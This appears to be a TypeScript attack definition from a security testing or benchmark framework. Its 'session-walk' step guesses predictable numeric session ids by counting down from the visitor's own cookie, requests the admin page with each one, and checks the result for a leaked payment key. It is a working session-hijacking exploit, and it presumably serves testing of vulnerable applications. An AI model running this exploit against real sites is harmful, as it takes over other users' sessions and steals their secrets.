import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Takes over the session of the office by counting. */
export const sessionWalk: Attack = defineAttack({
  id: 'session-walk',
  class: 'broken-authentication',
  title: 'Takes over the session of the office by counting',
  cwe: 330,
  capec: 59,
  technique: 'T1606.001',
  preconditions: [],

  steps: async ({ visitor }) => {
    await visitor.get('/')
    const own = Number(visitor.cookies.get('sid'))
    for (let number = own - 1; number >= Math.max(0, own - 40); number--) {
      visitor.cookies.set('sid', String(number))
      const answer = await visitor.get('/admin')
      if (answer.status === 200) return answer.text
    }
    return ''
  },
  oracle: (text, { witness }) => text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.get('/cart'),
})
